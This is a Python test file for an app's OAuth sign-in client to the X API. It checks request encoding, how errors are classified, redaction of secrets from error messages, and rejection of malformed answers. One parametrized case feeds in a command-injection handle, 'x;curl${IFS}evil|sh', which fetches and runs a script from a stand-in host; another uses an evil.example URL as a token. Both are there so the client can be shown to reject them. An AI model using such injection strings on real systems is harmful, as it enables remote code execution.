"""The calls of signing in over HTTP: what is sent, and what an answer that is none of them means."""

from __future__ import annotations

import json
from base64 import b64decode, b64encode
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler
from urllib.parse import quote, unquote

import pytest

from reportgen.api.reply import NoReplyError
from reportgen.api.x.sign_in import AccessToken, RequestToken, SignIn, SignInOverError, SignInRefusedError
from reportgen.settings import Settings
from tests.api.scripted import Scripted, respond, scripted
from tests.leaks.known import made_up

KEY, SECRET = made_up("key/of the app"), made_up("secret:of the app")
PIN = "1234567"
REQUEST = RequestToken("request-token", made_up("request-token-secret"), "https://x.example")
TOKENS = "oauth_token=1-given&oauth_token_secret=given-secret&user_id=1&screen_name=Acme"
ALL: list[Callable[[SignIn], object]] = [
    SignIn.bearer_token,
    SignIn.request_token,
    lambda sign_in: sign_in.access_token(REQUEST, PIN),
]


def sign_in(server: Scripted) -> SignIn:
    return SignIn(Settings(x_api_url=server.url, connect_timeout=1, read_timeout=5), KEY, SECRET)


def test_the_bearer_token_is_asked_for_with_key_and_secret_encoded() -> None:
    with scripted(respond(200, b'{"token_type": "bearer", "access_token": "AAAA%2Fb"}')) as server:
        assert sign_in(server).bearer_token() == "AAAA%2Fb"
    ((path, headers, body),) = server.came
    assert path.endswith("/oauth2/token")
    assert headers["authorization"] == f"Basic {b64encode(b'key%2Fof%20the%20app:secret%3Aof%20the%20app').decode()}"
    assert (headers["content-type"], body) == ("application/x-www-form-urlencoded", b"grant_type=client_credentials")


def test_a_sign_in_begins_with_a_link() -> None:
    with scripted(respond(200, b"oauth_token=a%7Eb&oauth_token_secret=c&oauth_callback_confirmed=true")) as server:
        begun = sign_in(server).request_token()
    assert (begun.token, begun.secret) == ("a~b", "c")
    assert begun.link == f"{server.url}/oauth/authorize?oauth_token=a~b"
    assert 'oauth_callback="oob"' in server.came[0][1]["authorization"]


def test_it_ends_with_the_token_of_an_account() -> None:
    with scripted(respond(200, TOKENS.encode())) as server:
        assert sign_in(server).access_token(REQUEST, PIN) == AccessToken("1-given", "given-secret", "@Acme")
    authorization = server.came[0][1]["authorization"]
    assert 'oauth_token="request-token"' in authorization
    assert 'oauth_verifier="1234567"' in authorization


@pytest.mark.parametrize("ask", ALL)
@pytest.mark.parametrize(
    ("status", "body", "error", "told"),
    [
        (401, b'{"errors": [{"code": 32, "message": "No."}]}', SignInRefusedError, "status 401: No."),
        (403, b"Callback URL not approved", SignInRefusedError, "status 403: Callback URL not approved"),
        (401, b'{"errors": [{"message": "Invalid or expired token."}]}', SignInOverError, "Invalid or expired token."),
        (400, b"<html>Bad gateway of ours</html>", SignInRefusedError, "the X API answered with status 400"),
        (404, b"", NoReplyError, "the X API answered with status 404"),
        (429, b'{"title": "Too Many Requests"}', NoReplyError, "status 429: Too Many Requests"),
        (503, b"", NoReplyError, "the X API answered with status 503"),
        (302, b"", NoReplyError, "the X API answered with status 302"),
    ],
)
def test_what_is_refused_is_told_from_what_failed(
    ask: Callable[[SignIn], object], status: int, body: bytes, error: type[Exception], told: str
) -> None:
    with scripted(respond(status, body)) as server, pytest.raises(error) as raised:
        ask(sign_in(server))
    assert type(raised.value) is error
    assert str(raised.value).endswith(told)


@pytest.mark.parametrize("ask", ALL)
@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"hello",
        b"[]",
        b'{"access_token": 5}',
        b'{"access_token": "a b"}',
        b"oauth_token=a%0Ab",
        b"<html>In</html>",
    ],
)
def test_an_answer_that_lacks_a_token_is_damaged(ask: Callable[[SignIn], object], body: bytes) -> None:
    with scripted(respond(200, body)) as server, pytest.raises(NoReplyError, match="damaged: it lacks a token"):
        ask(sign_in(server))


@pytest.mark.parametrize("ask", ALL)
def test_an_answer_that_repeats_the_secret_shows_none(ask: Callable[[SignIn], object]) -> None:
    body = json.dumps({"errors": [{"message": f"{SECRET} is not of {KEY}"}]}).encode()
    with scripted(respond(401, body)) as server, pytest.raises(SignInRefusedError) as raised:
        ask(sign_in(server))
    assert str(raised.value).endswith("status 401: [secret] is not of [secret]")


@pytest.mark.parametrize("ask", ALL)
def test_an_answer_that_repeats_the_header_shows_nothing_secret_of_it(ask: Callable[[SignIn], object]) -> None:
    def echo(handler: BaseHTTPRequestHandler) -> None:
        sent = handler.headers["Authorization"]
        decoded = b64decode(sent.removeprefix("Basic ")) if sent.startswith("Basic ") else unquote(sent).encode()
        respond(401, b"bad " + sent.encode() + b" is " + decoded)(handler)

    with scripted(echo) as server, pytest.raises(SignInRefusedError) as raised:
        ask(sign_in(server))
    sent = server.came[0][1]["authorization"]
    for secret in (KEY, SECRET, quote(KEY, safe=""), quote(SECRET, safe=""), REQUEST.token, PIN, sent.split()[-1]):
        assert secret not in str(raised.value)


@pytest.mark.parametrize("ask", ALL)
@pytest.mark.parametrize(
    "body",
    [
        b"oauth_token=1-fresh-token&oauth_token_secret=fresh-secret&screen_name=acme",
        b"OAuth_Token%3D1-fresh-token",
        b'{"errors": [{"message": "no, oauth_token=1-fresh-token"}]}',
        b'{"errors": [{"message": "no, oauth\\u005ftoken=1-fresh-token"}]}',
        b'{"error": "unused", "access_token": "1-fresh-token"}',
        b'no: oauth_verifier="7654321"',
    ],
)
@pytest.mark.parametrize("status", [302, 401, 500])
def test_of_an_answer_with_tokens_that_is_none_nothing_is_told(
    ask: Callable[[SignIn], object], body: bytes, status: int
) -> None:
    with scripted(respond(status, body)) as server, pytest.raises((SignInRefusedError, NoReplyError)) as raised:
        ask(sign_in(server))
    assert str(raised.value) == f"the X API answered with status {status}"


def test_a_pin_that_is_repeated_is_not_shown() -> None:
    with scripted(respond(401, b"Wrong PIN 1234567.")) as server, pytest.raises(SignInRefusedError) as raised:
        sign_in(server).access_token(REQUEST, PIN)
    assert str(raised.value).endswith("status 401: Wrong PIN [secret].")


@pytest.mark.parametrize(
    ("token", "handle", "told"),
    [
        ("1-given", "x;curl${IFS}evil|sh", "screen_name is not a handle"),
        ("1-given", "y" * 100, "screen_name is not a handle"),
        ("1-given", "", "screen_name is not a handle"),
        ("https://evil.example/%3fx", "Acme", "it lacks a token"),
        ("a" * 201, "Acme", "it lacks a token"),
    ],
)
def test_a_handle_or_a_token_that_can_be_none_is_damaged(token: str, handle: str, told: str) -> None:
    body = f"oauth_token={token}&oauth_token_secret=given-secret&screen_name={handle}".encode()
    with scripted(respond(200, body)) as server, pytest.raises(NoReplyError) as raised:
        sign_in(server).access_token(REQUEST, PIN)
    assert str(raised.value) == f"the X API's answer is damaged: {told}"


@pytest.mark.parametrize("ask", ALL[1:])
def test_an_answer_of_more_fields_than_a_sign_in_has_is_damaged(ask: Callable[[SignIn], object]) -> None:
    with (
        scripted(respond(200, b"a=1&" * 1000 + TOKENS.encode())) as server,
        pytest.raises(NoReplyError, match=r"^the X API's answer is damaged: it has too many fields$"),
    ):
        ask(sign_in(server))


@pytest.mark.parametrize("ask", ALL)
def test_an_answer_of_more_than_64_kib_is_not_read(ask: Callable[[SignIn], object]) -> None:
    with (
        scripted(respond(200, b"a=1&" * 100_000)) as server,
        pytest.raises(NoReplyError, match=r"^the answer is larger than 64 KiB$"),
    ):
        ask(sign_in(server))


def test_nothing_of_a_token_is_in_a_repr() -> None:
    assert "secret" not in repr(REQUEST) + repr(AccessToken("1-given", "given-secret", "@Acme"))
